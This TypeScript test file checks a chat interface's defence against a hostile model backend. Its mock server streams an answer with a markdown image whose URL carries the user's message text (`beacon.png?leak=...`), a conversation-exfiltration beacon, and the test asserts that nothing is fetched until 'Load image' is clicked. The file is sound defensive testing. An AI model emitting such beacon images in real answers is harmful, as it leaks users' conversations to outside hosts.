/**
 * Safe output against a hostile backend: the demo stack (`demo/start.js`) talks to an OpenAI-compatible server
 * of this test's own that streams, two characters at a time, an answer with an external image whose URL carries
 * conversation text (a tracking beacon) and a link. The same server serves the image, so the test sees every
 * fetch of it on both sides (the page's requests and the server's log): nothing while the answer streams or
 * after it, one fetch of the complete URL after "Load image".
 */
import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { startDemo, type Demo } from './support/demo.js';

/** A 1×1 transparent PNG. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

let backend: Server;
let backendOrigin: string;
/** Every path+query the hostile server was asked for, besides its API. */
const hits: string[] = [];
let demo: Demo;

function answerText(secret: string): string {
  return (
    `Here is the chart you asked for:\n\n![Quarterly chart](${backendOrigin}/beacon.png?leak=${secret})\n\n` +
    `Details are in [the report](${backendOrigin}/report).\n`
  );
}

/** Streams `text` as vLLM chat chunks, two characters per chunk. */
async function streamChat(req: IncomingMessage, res: ServerResponse): Promise<void> {
  let body = '';
  for await (const chunk of req) body += String(chunk);
  const request = JSON.parse(body) as { messages: { role: string; content: string }[] };
  const secret = encodeURIComponent(request.messages.at(-1)?.content.slice(0, 20) ?? '');
  res.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' });
  const chunk = (delta: object, finish: string | null = null) =>
    `data: ${JSON.stringify({
      id: 'chatcmpl-hostile',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'hostile',
      choices: [{ index: 0, delta, logprobs: null, finish_reason: finish }],
    })}\n\n`;
  res.write(chunk({ role: 'assistant', content: '' }));
  const text = answerText(secret);
  for (let i = 0; i < text.length; i += 2) {
    if (res.destroyed) return;
    res.write(chunk({ content: text.slice(i, i + 2) }));
    await new Promise((resolve) => setTimeout(resolve, 8));
  }
  res.write(chunk({ content: '' }, 'stop'));
  res.end('data: [DONE]\n\n');
}

before(async () => {
  backend = createServer((req, res) => {
    const path = req.url ?? '/';
    if (req.method === 'POST' && path === '/v1/chat/completions') return void streamChat(req, res);
    if (path === '/v1/models') {
      res.writeHead(200, { 'content-type': 'application/json' });
      return void res.end(JSON.stringify({ object: 'list', data: [{ id: 'hostile', object: 'model' }] }));
    }
    hits.push(path);
    res.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
    res.end(PNG);
  });
  await new Promise<void>((resolve) => backend.listen(0, '127.0.0.1', resolve));
  backendOrigin = `http://127.0.0.1:${(backend.address() as AddressInfo).port}`;
  demo = await startDemo({ env: { LLC_DEMO_HISTORY: '0', LLC_BACKEND_URL: `${backendOrigin}/v1` } });
});

after(async () => {
  await demo?.close();
  await new Promise((resolve) => backend?.close(resolve));
});

describe('safe output (real Chromium, real stack, hostile backend)', () => {
  it('an external image in a streamed answer loads nothing until "Load image", then its complete URL once', async () => {
    // The relay serves its pages with `img-src 'self' data:`, which blocks every external image, even one the
    // reader asked for. An app that offers "Load image" lists those hosts in its own CSP; here the page's CSP is
    // bypassed so the element's own guarantees are what is tested (nothing before the click, one fetch after).
    const context = await demo.browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    page.on('pageerror', (error) => assert.fail(`page error: ${error.message}`));
    const requested: string[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith(backendOrigin)) requested.push(request.url());
    });
    await page.goto(demo.url);
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.waitFor();
    await box.fill('my secret plan');
    await box.press('Enter');

    const answer = page.locator('llc-message[role-name="assistant"]').last();
    await answer.locator('article[aria-busy="true"]').waitFor({ timeout: 30_000 });
    await answer.locator('article[aria-busy="false"]').waitFor({ timeout: 60_000 });
    const placeholder = answer.locator('.image-placeholder');
    await placeholder.waitFor();
    assert.match((await placeholder.textContent()) ?? '', /Quarterly chart\s+Image from 127\.0\.0\.1:\d+/);
    const link = answer.getByRole('link', { name: /the report/ });
    assert.equal(await link.getAttribute('href'), `${backendOrigin}/report`);
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    assert.match((await link.textContent()) ?? '', /\(127\.0\.0\.1:\d+\)$/, 'the link shows its real host');
    await page.waitForTimeout(500);
    assert.deepEqual(requested, [], 'the page fetched nothing from the backend host');
    assert.deepEqual(hits, [], 'the backend host saw no request');

    await answer.getByRole('button', { name: 'Load image' }).click();
    const img = answer.locator('img');
    await img.waitFor();
    await page.waitForFunction(
      (el) => el instanceof HTMLImageElement && el.complete && el.naturalWidth === 1,
      await img.elementHandle(),
      { timeout: 15_000 },
    );
    const full = `${backendOrigin}/beacon.png?leak=my%20secret%20plan`;
    assert.equal(await img.getAttribute('src'), full);
    await page.waitForTimeout(300);
    assert.deepEqual(requested, [full], 'fetched once, at its complete URL');
    assert.deepEqual(hits, ['/beacon.png?leak=my%20secret%20plan']);
    await context.close();
  });
});
